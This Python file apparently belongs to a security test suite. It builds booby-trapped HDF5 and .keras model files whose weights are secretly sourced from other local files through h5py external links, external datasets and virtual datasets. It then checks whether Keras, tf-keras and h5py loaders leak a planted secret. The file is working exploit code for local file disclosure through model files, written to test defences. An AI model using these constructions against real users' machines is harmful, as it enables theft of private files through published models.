"""HDF5 files whose weights are taken from other files of the victim's machine.

They would end up in the converted model, which people publish.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import tf_keras

from attacks.corpus import SECRET, attack

LINK = "is a link to .*secret"
ELSEWHERE = "weights must be in the file itself"
SHAPE = (1, 1, 3, 3)


def _leaked(weights: list[Any]) -> bool:
    return any(bool(np.any(np.asarray(array) == SECRET)) for array in weights)


def load_with_tf_keras(path: Path, mark: Path) -> bool:
    return _leaked(tf_keras.models.load_model(path, compile=False).get_weights())


def load_open_file(path: Path, mark: Path) -> bool:
    # By name, tf-keras opens a file with a driver that follows no links.
    with h5py.File(path) as file:
        return _leaked(tf_keras.models.load_model(file, compile=False).get_weights())


def load_with_keras(path: Path, mark: Path) -> bool:
    return _leaked(keras.saving.load_model(path, compile=False).get_weights())


def read_with_h5py(path: Path, mark: Path) -> bool:
    found: list[Any] = []
    with h5py.File(path) as file:
        found.append(file["layers/conv2d/vars/0"][()])
    return _leaked(found)


def _model(library: Any) -> Any:
    photo = library.Input((None, None, 3))
    return library.Model(photo, library.layers.Conv2D(3, 1, use_bias=False, name="conv")(photo))


def _secret(folder: Path) -> Path:
    with h5py.File(folder / "secret.h5", "w") as file:
        file["mine"] = np.full(SHAPE, SECRET, np.float32)
    return folder / "secret.h5"


def _kernel(file: h5py.File) -> str:
    """Removes the kernel of the one layer, and returns where it stood."""
    found: list[str] = []
    file.visititems(
        lambda name, item: found.append(name) if isinstance(item, h5py.Dataset) else None
    )
    (name,) = found
    del file[name]
    return name


@attack(load_open_file, LINK)
def external_link(folder: Path, mark: Path) -> Path:
    path = folder / "evil.h5"
    _model(tf_keras).save(path)
    with h5py.File(path, "r+") as file:
        file[_kernel(file)] = h5py.ExternalLink(str(_secret(folder)), "/mine")
    return path


@attack(load_open_file, LINK)
def external_link_of_a_group(folder: Path, mark: Path) -> Path:
    path = folder / "evil.h5"
    _model(tf_keras).save(path)
    with h5py.File(path, "r+") as file, h5py.File(folder / "secret.h5", "w") as secret:
        name = _kernel(file)
        group = name.rpartition("/")[0]
        secret.create_dataset(f"{name.rpartition('/')[2]}", data=np.full(SHAPE, SECRET, "f4"))
        del file[group]
        file[group] = h5py.ExternalLink(str(folder / "secret.h5"), "/")
    return path


@attack(load_with_tf_keras, ELSEWHERE)
def external_dataset(folder: Path, mark: Path) -> Path:
    path, secret = folder / "evil.h5", folder / "secret.bin"
    secret.write_bytes(np.full(SHAPE, SECRET, np.float32).tobytes())
    _model(tf_keras).save(path)
    with h5py.File(path, "r+") as file:
        place = [(str(secret), 0, secret.stat().st_size)]
        file.create_dataset(_kernel(file), SHAPE, np.float32, external=place)
    return path


@attack(load_open_file, ELSEWHERE)
def virtual_dataset(folder: Path, mark: Path) -> Path:
    path = folder / "evil.h5"
    _model(tf_keras).save(path)
    layout = h5py.VirtualLayout(SHAPE, np.float32)
    layout[...] = h5py.VirtualSource(str(_secret(folder)), "mine", SHAPE)
    with h5py.File(path, "r+") as file:
        file.create_virtual_dataset(_kernel(file), layout)
    return path


@attack(load_with_keras, LINK, stopped_by="(?i)external")
def external_link_in_keras_3(folder: Path, mark: Path) -> Path:
    path = folder / "evil.h5"
    _model(keras).save(path)
    with h5py.File(path, "r+") as file:
        file[_kernel(file)] = h5py.ExternalLink(str(_secret(folder)), "/mine")
    return path


@attack(load_with_keras, LINK, stopped_by="(?i)external")
def external_link_in_an_archive(folder: Path, mark: Path) -> Path:
    import io
    import zipfile

    path = folder / "evil.keras"
    _model(keras).save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    weights = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(weights, "r+") as file:
        file[_kernel(file)] = h5py.ExternalLink(str(_secret(folder)), "/mine")
    parts["model.weights.h5"] = weights.getvalue()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


@attack(read_with_h5py, LINK)
def external_link_in_weights_alone(folder: Path, mark: Path) -> Path:
    path = folder / "evil.weights.h5"
    _model(keras).save_weights(path)
    with h5py.File(path, "r+") as file:
        _kernel(file)
        file.require_group("layers/conv2d/vars")
        file["layers/conv2d/vars/0"] = h5py.ExternalLink(str(_secret(folder)), "/mine")
    return path
